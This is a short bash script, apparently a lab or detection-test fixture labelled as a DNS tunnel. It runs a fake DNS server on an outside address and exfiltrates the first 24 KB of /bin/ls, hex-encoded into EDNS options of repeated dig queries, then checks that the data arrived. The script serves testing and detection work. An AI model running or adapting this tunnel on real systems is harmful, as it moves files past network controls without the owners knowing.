#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=dns-tunnel half=report tool=dig far=out ready=out:53 seconds=30 parts=dns
# dig asks a server outside one ordinary name again and again; a file goes there in an option of EDNS.
if [ "$1" = out ]; then exec timeout 45 python3 -c 'import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("203.0.113.66", 53))
while True:
    m, who = s.recvfrom(4096); open(sys.argv[1], "ab").write(m); end = m.index(b"\0", 12) + 5
    s.sendto(m[:2] + b"\x81\x80\0\1\0\1\0\0\0\0" + m[12:end] + b"\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4\xcb\0\x71\x50", who)' "$LAB/got"; fi
sleep 1; head -c 24000 /bin/ls | xxd -p -c 200 | while read -r piece; do dig +short +tries=1 +time=1 +ednsopt="65001:$piece" @203.0.113.66 www.example.org >/dev/null; done
sleep 1; [ "$(stat -c %s "$LAB/got")" -gt 24000 ]
